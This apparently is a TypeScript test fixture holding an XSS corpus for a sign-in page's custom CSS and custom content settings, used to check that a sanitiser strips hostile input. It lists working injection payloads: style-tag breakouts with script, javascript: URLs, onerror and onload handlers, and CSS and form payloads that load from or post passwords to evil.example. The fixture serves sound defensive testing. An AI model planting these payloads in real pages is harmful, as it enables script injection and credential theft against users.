/** An XSS corpus for a sign-in experience's free-form settings: custom CSS and custom content. */

/** CSS that tries to load, run or break out; each entry with what must not survive it. */
export const hostileCss: [css: string, mustNotContain: string[]][] = [
  ['@import url("https://evil.example/x.css");', ['@import', 'evil']],
  ['@IMPORT "https://evil.example/x.css";', ['import', 'evil']],
  ['@\\69mport "https://evil.example/x.css";', ['mport', 'evil']],
  ['.a{background:url(https://evil.example/x.png)}', ['evil']],
  ['.a{background:URL( "//evil.example/x.png" )}', ['evil']],
  ['.a{background:u\\72l(https://evil.example/x.png)}', ['evil']],
  ['.a{background-image:image-set("https://evil.example/x.png" 1x)}', ['evil']],
  ['.a{--v:url(https://evil.example/x.png)}.b{background:var(--v)}', ['evil']],
  ['.a{background:url("data:image/svg+xml,<svg onload=alert(1)>")}', ['svg', 'onload']],
  ['.a{background:url(javascript:alert(1))}', ['javascript']],
  ['.a{width:expression(alert(1))}', ['expression', 'alert']],
  ['.a{behavior:url(x.htc)}', ['behavior', 'htc']],
  ['.a{-moz-binding:url("https://evil.example/x.xml#b")}', ['binding', 'evil']],
  ['@font-face{font-family:x;src:url(https://evil.example/f.woff2)}', ['evil']],
  ['.a{content:"</style><script>window.hacked=1</script>"}', ['</style', '<script']],
  ['} </style><script>window.hacked=1</script><style>', ['</style', '<script', 'hacked']],
  ['.a{color:red}</STYLE ><img src=x onerror=alert(1)>', ['</STYLE', '<img', 'onerror']],
  ['@namespace svg url(http://www.w3.org/2000/svg);', ['@namespace']],
];

/** Custom content that tries to run script; none of these may reach the page. */
export const hostileContent = [
  '<script>window.hacked=1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<a href="javascript:window.hacked=1">click</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<svg onload="window.hacked=1"></svg>',
  '<div style="background:url(https://evil.example/x.png)">styled</div>',
  '<form action="https://evil.example/"><input name=password></form>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<object data="https://evil.example/x.swf"></object>',
].join('');
